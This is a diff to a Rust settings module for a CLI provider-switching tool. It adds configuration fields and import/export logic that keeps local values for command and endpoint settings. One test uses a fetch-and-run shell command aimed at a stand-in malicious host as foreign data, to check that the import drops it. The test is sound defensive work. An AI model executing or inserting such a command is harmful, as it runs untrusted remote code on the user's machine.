@@ -1,10 +1,16 @@
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::{OnceLock, RwLock};
 
+use crate::ab_test::AbTest;
+use crate::claude_hooks::ClaudeHook;
 use crate::error::AppError;
+use crate::remote_host::RemoteHost;
+use crate::services::RankingWeights;
+use crate::subscription::SubscriptionSource;
+use crate::switch_rule::SwitchRule;
 
 /// 自定义端点配置
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -30,6 +36,96 @@ pub struct SecuritySettings {
     pub auth: Option<SecurityAuthSettings>,
 }
 
+/// 托盘菜单中供应商的排序方式
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum TraySort {
+    /// 手动排序（sortIndex → 创建时间 → 名称）
+    #[default]
+    Manual,
+    /// 按名称排序
+    Name,
+    /// 按最近一次测速延迟排序
+    Latency,
+    /// 按最近使用时间排序
+    LastUsed,
+}
+
+/// 切换供应商时同步 MCP 服务器的范围
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum McpSwitchSync {
+    /// 将已启用的服务器同步到所有应用
+    #[default]
+    All,
+    /// 仅同步到被切换的应用
+    App,
+    /// 不同步
+    Off,
+}
+
+/// 未设置目录覆盖时 CLI 配置目录的解析方式（主要用于 Windows）
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum PathStrategy {
+    /// Windows 上检测已安装 CLI 实际使用的目录，其他平台等同于 `Home`
+    #[default]
+    Auto,
+    /// 用户主目录，如 `%USERPROFILE%\.claude`
+    Home,
+    /// 漫游应用数据目录，如 `%APPDATA%\claude`
+    AppData,
+    /// 本地应用数据目录，如 `%LOCALAPPDATA%\claude`
+    LocalAppData,
+}
+
+/// 切换 Claude 供应商时 settings.json 的写入方式
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum ClaudeSettingsMerge {
+    /// 以供应商快照整体替换 settings.json
+    #[default]
+    Replace,
+    /// 仅改写 `env` 与 `claude_managed_keys` 中声明的键，其余键（permissions、hooks 等）保留
+    ManagedKeys,
+}
+
+/// 日志级别（写入 ~/.cc-switch/logs 的最低级别）
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum LogLevel {
+    Error,
+    Warn,
+    #[default]
+    Info,
+    Debug,
+    Trace,
+}
+
+impl LogLevel {
+    pub fn to_level_filter(self) -> log::LevelFilter {
+        match self {
+            LogLevel::Error => log::LevelFilter::Error,
+            LogLevel::Warn => log::LevelFilter::Warn,
+            LogLevel::Info => log::LevelFilter::Info,
+            LogLevel::Debug => log::LevelFilter::Debug,
+            LogLevel::Trace => log::LevelFilter::Trace,
+        }
+    }
+}
+
+/// cc-switch 内置的 Claude Code 状态栏样式
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum StatuslineVariant {
+    /// 模型与当前目录
+    Minimal,
+    /// 额外显示当前供应商
+    Provider,
+    /// 额外显示会话费用与 git 分支
+    Full,
+}
+
 /// 应用设置结构，允许覆盖默认配置目录
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
@@ -47,6 +143,15 @@ pub struct AppSettings {
     pub codex_config_dir: Option<String>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub gemini_config_dir: Option<String>,
+    /// 各应用配置目录的解析方式（键为 claude / codex / gemini），目录覆盖优先
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub path_strategies: HashMap<String, PathStrategy>,
+    /// 切换 Claude / Codex 供应商时同步写入的 WSL 发行版
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub wsl_distros: Vec<String>,
+    /// SSH 远程主机（可将供应商写入远程开发机）
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub remote_hosts: Vec<RemoteHost>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub language: Option<String>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
@@ -57,6 +162,105 @@ pub struct AppSettings {
     /// Codex 自定义端点列表
     #[serde(default, skip_serializing_if = "HashMap::is_empty")]
     pub custom_endpoints_codex: HashMap<String, CustomEndpoint>,
+    /// 托盘菜单与供应商列表的排序方式
+    #[serde(default)]
+    pub tray_sort: TraySort,
+    /// 是否启用自动切换规则
+    #[serde(default)]
+    pub switch_rules_enabled: bool,
+    /// 自动切换规则列表（按顺序匹配）
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub switch_rules: Vec<SwitchRule>,
+    /// 日志级别
+    #[serde(default)]
+    pub log_level: LogLevel,
+    /// 是否同意上传匿名崩溃报告（默认关闭，仅记录到本地）
+    #[serde(default)]
+    pub crash_report_upload: bool,
+    /// 崩溃报告上传地址
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub crash_report_endpoint: Option<String>,
+    /// 应用口令的 Argon2 哈希（PHC 格式），设置后查看/导出密钥需先解锁
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub passcode_hash: Option<String>,
+    /// 停用 Codex MCP 服务器时注释保留其配置表（而非删除），重新启用时恢复
+    #[serde(default)]
+    pub codex_mcp_comment_disabled: bool,
+    /// 已安装的 cc-switch 状态栏样式（切换 Claude 供应商时写入 settings.json 的 statusLine）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub claude_statusline: Option<StatuslineVariant>,
+    /// cc-switch 管理的 Claude Code 钩子（切换 Claude 供应商时合并到 settings.json 的 hooks）
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub claude_hooks: Vec<ClaudeHook>,
+    /// 切换供应商时同步写入 `~/.cc-switch/env/<app>.env`，供终端 `source` 使用
+    #[serde(default)]
+    pub write_env_files: bool,
+    /// 切换 Gemini 供应商时整体替换 `~/.gemini/.env`（默认合并，保留非 cc-switch 管理的变量）
+    #[serde(default)]
+    pub gemini_env_replace: bool,
+    /// 切换 Claude 供应商时 settings.json 的写入方式
+    #[serde(default)]
+    pub claude_settings_merge: ClaudeSettingsMerge,
+    /// `managed-keys` 模式下除 `env` 外由供应商接管的顶层键
+    #[serde(default = "default_claude_managed_keys")]
+    pub claude_managed_keys: Vec<String>,
+    /// 写入配置后自动将受管理的文件收紧为 600、目录收紧为 700（仅 Unix）
+    #[serde(default)]
+    pub strict_permissions: bool,
+    /// 切换后重新读取 live 配置核对写入结果，不一致时回滚
+    #[serde(default)]
+    pub verify_live_writes: bool,
+    /// 开启写入校验时额外执行的 CLI 配置校验命令（按应用，如 `codex`: `codex config validate`）
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub live_verify_commands: HashMap<String, String>,
+    /// 切换供应商时的 MCP 同步范围（按应用，未设置时为 `all`）
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub mcp_switch_sync: HashMap<String, McpSwitchSync>,
+    /// 切换前延迟预检阈值（毫秒），最近一次测速超过该值时提示确认；0 表示不检查延迟
+    #[serde(default = "default_switch_latency_warning_ms")]
+    pub switch_latency_warning_ms: u64,
+    /// 用量展示货币（ISO 4217 代码，如 `USD`、`CNY`；未设置时保留面板原始单位）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub display_currency: Option<String>,
+    /// 自定义汇率：1 USD 可兑换的目标货币数量，覆盖内置参考汇率
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub exchange_rates: HashMap<String, f64>,
+    /// 私有粘贴服务地址（分享供应商配置时上传密文；未设置时生成离线分享码）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub share_endpoint: Option<String>,
+    /// 订阅源（团队共享的供应商清单）及最近一次拉取的内容
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub subscriptions: Vec<SubscriptionSource>,
+    /// 离线模式：不拉取注册表、技能仓库与 MCP 包版本，只使用内置与本地数据
+    #[serde(default)]
+    pub offline_mode: bool,
+    /// 注册表（供应商预设、MCP 目录、用量脚本模板）的拉取地址，未设置时使用官方仓库
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub registry_url: Option<String>,
+    /// 守护模式（`--daemon`）HTTP 控制接口端口，仅监听 127.0.0.1；需同时设置令牌
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub daemon_api_port: Option<u16>,
+    /// 守护模式 HTTP 控制接口的访问令牌（`Authorization: Bearer <令牌>`）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub daemon_api_token: Option<String>,
+    /// 启动时运行本地反向代理（CLI 指向代理后切换无需改写配置文件）
+    #[serde(default)]
+    pub proxy_enabled: bool,
+    /// 本地代理端口，仅监听 127.0.0.1，未设置时使用默认端口
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub proxy_port: Option<u16>,
+    /// 代理请求遇到连接失败、5xx 或 429 时依次尝试其他供应商
+    #[serde(default)]
+    pub proxy_failover: bool,
+    /// 供应商 A/B 测试（含已结束的记录）
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub ab_tests: Vec<AbTest>,
+    /// 供应商排名的评分权重（推荐与按排名自动切换使用），未设置时使用默认权重
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub ranking_weights: Option<RankingWeights>,
+    /// 每天对所有供应商执行一次综合验证（会发送输出上限 1 token 的真实请求）
+    #[serde(default)]
+    pub provider_verification: bool,
 }
 
 fn default_show_in_tray() -> bool {
@@ -67,6 +271,14 @@ fn default_minimize_to_tray_on_close() -> bool {
     true
 }
 
+fn default_switch_latency_warning_ms() -> u64 {
+    3000
+}
+
+fn default_claude_managed_keys() -> Vec<String> {
+    vec!["model".to_string(), "apiKeyHelper".to_string()]
+}
+
 impl Default for AppSettings {
     fn default() -> Self {
         Self {
@@ -76,16 +288,52 @@ impl Default for AppSettings {
             claude_config_dir: None,
             codex_config_dir: None,
             gemini_config_dir: None,
+            path_strategies: HashMap::new(),
+            wsl_distros: Vec::new(),
+            remote_hosts: Vec::new(),
             language: None,
             security: None,
             custom_endpoints_claude: HashMap::new(),
             custom_endpoints_codex: HashMap::new(),
+            tray_sort: TraySort::Manual,
+            switch_rules_enabled: false,
+            switch_rules: Vec::new(),
+            log_level: LogLevel::Info,
+            crash_report_upload: false,
+            crash_report_endpoint: None,
+            passcode_hash: None,
+            codex_mcp_comment_disabled: false,
+            claude_statusline: None,
+            claude_hooks: Vec::new(),
+            write_env_files: false,
+            gemini_env_replace: false,
+            claude_settings_merge: ClaudeSettingsMerge::Replace,
+            claude_managed_keys: default_claude_managed_keys(),
+            strict_permissions: false,
+            verify_live_writes: false,
+            live_verify_commands: HashMap::new(),
+            mcp_switch_sync: HashMap::new(),
+            switch_latency_warning_ms: default_switch_latency_warning_ms(),
+            display_currency: None,
+            exchange_rates: HashMap::new(),
+            share_endpoint: None,
+            subscriptions: Vec::new(),
+            offline_mode: false,
+            registry_url: None,
+            daemon_api_port: None,
+            daemon_api_token: None,
+            proxy_enabled: false,
+            proxy_port: None,
+            proxy_failover: false,
+            ab_tests: Vec::new(),
+            ranking_weights: None,
+            provider_verification: false,
         }
     }
 }
 
 impl AppSettings {
-    fn settings_path() -> PathBuf {
+    pub(crate) fn settings_path() -> PathBuf {
         // settings.json 必须使用固定路径，不能被 app_config_dir 覆盖
         // 否则会造成循环依赖：读取 settings 需要知道路径，但路径在 settings 中
         dirs::home_dir()
@@ -124,6 +372,55 @@ impl AppSettings {
             .map(|s| s.to_string());
     }
 
+    /// 去除与本机相关的字段（配置目录覆盖与解析方式、WSL 发行版、远程主机、认证方式、应用口令、守护模式令牌），
+    /// 以及会执行命令或向外发送数据的字段（见 [`Self::merge_imported`]），用于跨机器导出
+    fn portable(&self) -> Self {
+        let mut portable = self.clone();
+        portable.claude_config_dir = None;
+        portable.codex_config_dir = None;
+        portable.gemini_config_dir = None;
+        portable.path_strategies.clear();
+        portable.wsl_distros.clear();
+        portable.remote_hosts.clear();
+        portable.security = None;
+        portable.passcode_hash = None;
+        portable.daemon_api_token = None;
+        portable.live_verify_commands.clear();
+        portable.claude_hooks.clear();
+        portable.crash_report_upload = false;
+        portable.crash_report_endpoint = None;
+        portable.share_endpoint = None;
+        portable.subscriptions.clear();
+        portable.registry_url = None;
+        portable
+    }
+
+    /// 以导入的设置为准，保留本机相关字段
+    ///
+    /// 校验命令、Claude hooks 会在本机执行，崩溃上报、分享、订阅与注册表地址决定数据发往何处：
+    /// 这些字段同样保留本机的值，避免导入他人的设置文件即可在本机执行命令或转发数据
+    fn merge_imported(&self, imported: AppSettings) -> Self {
+        Self {
+            claude_config_dir: self.claude_config_dir.clone(),
+            codex_config_dir: self.codex_config_dir.clone(),
+            gemini_config_dir: self.gemini_config_dir.clone(),
+            path_strategies: self.path_strategies.clone(),
+            wsl_distros: self.wsl_distros.clone(),
+            remote_hosts: self.remote_hosts.clone(),
+            security: self.security.clone(),
+            passcode_hash: self.passcode_hash.clone(),
+            daemon_api_token: self.daemon_api_token.clone(),
+            live_verify_commands: self.live_verify_commands.clone(),
+            claude_hooks: self.claude_hooks.clone(),
+            crash_report_upload: self.crash_report_upload,
+            crash_report_endpoint: self.crash_report_endpoint.clone(),
+            share_endpoint: self.share_endpoint.clone(),
+            subscriptions: self.subscriptions.clone(),
+            registry_url: self.registry_url.clone(),
+            ..imported
+        }
+    }
+
     pub fn load() -> Self {
         let path = Self::settings_path();
         if let Ok(content) = fs::read_to_string(&path) {
@@ -157,7 +454,8 @@ impl AppSettings {
 
         let json = serde_json::to_string_pretty(&normalized)
             .map_err(|e| AppError::JsonSerialize { source: e })?;
-        fs::write(&path, json).map_err(|e| AppError::io(&path, e))?;
+        fs::write(&path, &json).map_err(|e| AppError::io(&path, e))?;
+        crate::managed_files::record_write(&path, json.as_bytes());
         Ok(())
     }
 }
@@ -192,12 +490,34 @@ pub fn get_settings() -> AppSettings {
 pub fn update_settings(mut new_settings: AppSettings) -> Result<(), AppError> {
     new_settings.normalize_paths();
     new_settings.save()?;
+    crate::logging::apply_level(new_settings.log_level);
 
     let mut guard = settings_store().write().expect("写入设置锁失败");
     *guard = new_settings;
     Ok(())
 }
 
+/// 导出应用设置（语言、托盘行为、自动切换规则等）到指定文件
+///
+/// 与供应商配置导出相互独立，不包含任何供应商密钥及本机路径
+pub fn export_settings_to_path(target_path: &Path) -> Result<(), AppError> {
+    let portable = get_settings().portable();
+    let json = serde_json::to_string_pretty(&portable)
+        .map_err(|e| AppError::JsonSerialize { source: e })?;
+    fs::write(target_path, json).map_err(|e| AppError::io(target_path, e))
+}
+
+/// 从文件导入应用设置，保留本机的配置目录覆盖、认证方式及命令与外发地址等敏感设置，返回导入后的设置
+pub fn import_settings_from_path(file_path: &Path) -> Result<AppSettings, AppError> {
+    let content = fs::read_to_string(file_path).map_err(|e| AppError::io(file_path, e))?;
+    let imported: AppSettings =
+        serde_json::from_str(&content).map_err(|e| AppError::json(file_path, e))?;
+
+    let merged = get_settings().merge_imported(imported);
+    update_settings(merged.clone())?;
+    Ok(merged)
+}
+
 pub fn ensure_security_auth_selected_type(selected_type: &str) -> Result<(), AppError> {
     let mut settings = get_settings();
     let current = settings
@@ -242,3 +562,86 @@ pub fn get_gemini_override_dir() -> Option<PathBuf> {
         .as_ref()
         .map(|p| resolve_override_path(p))
 }
+
+/// 获取应用配置目录的解析方式（未设置时为 `Auto`）
+pub fn get_path_strategy(app: &str) -> PathStrategy {
+    settings_store()
+        .read()
+        .ok()
+        .and_then(|settings| settings.path_strategies.get(app).copied())
+        .unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn portable_settings_keep_local_paths_on_import() {
+        let local = AppSettings {
+            claude_config_dir: Some("/home/me/.claude".into()),
+            security: Some(SecuritySettings {
+                auth: Some(SecurityAuthSettings {
+                    selected_type: Some("oauth-personal".into()),
+                }),
+            }),
+            ..AppSettings::default()
+        };
+        let remote = AppSettings {
+            claude_config_dir: Some("/Users/other/.claude".into()),
+            language: Some("en".into()),
+            show_in_tray: false,
+            tray_sort: TraySort::Name,
+            ..AppSettings::default()
+        };
+
+        let exported = remote.portable();
+        assert!(exported.claude_config_dir.is_none());
+        assert!(exported.security.is_none());
+
+        let merged = local.merge_imported(exported);
+        assert_eq!(
+            merged.claude_config_dir.as_deref(),
+            Some("/home/me/.claude")
+        );
+        assert!(merged.security.is_some());
+        assert_eq!(merged.language.as_deref(), Some("en"));
+        assert!(!merged.show_in_tray);
+        assert_eq!(merged.tray_sort, TraySort::Name);
+    }
+
+    #[test]
+    fn import_keeps_local_command_and_endpoint_settings() {
+        let local = AppSettings {
+            registry_url: Some("https://registry.example.com".into()),
+            ..AppSettings::default()
+        };
+        let mut foreign = AppSettings {
+            crash_report_upload: true,
+            crash_report_endpoint: Some("https://collector.invalid/crash".into()),
+            share_endpoint: Some("https://paste.invalid".into()),
+            registry_url: Some("https://registry.invalid".into()),
+            language: Some("en".into()),
+            ..AppSettings::default()
+        };
+        foreign
+            .live_verify_commands
+            .insert("claude".into(), "curl https://evil.invalid | sh".into());
+
+        let exported = foreign.portable();
+        assert!(exported.live_verify_commands.is_empty());
+        assert!(!exported.crash_report_upload);
+        assert!(exported.share_endpoint.is_none());
+
+        let merged = local.merge_imported(foreign);
+        assert!(merged.live_verify_commands.is_empty());
+        assert!(!merged.crash_report_upload);
+        assert!(merged.crash_report_endpoint.is_none());
+        assert!(merged.share_endpoint.is_none());
+        assert_eq!(
+            merged.registry_url.as_deref(),
+            Some("https://registry.example.com")
+        );
+        assert_eq!(merged.language.as_deref(), Some("en"));
+    }
+}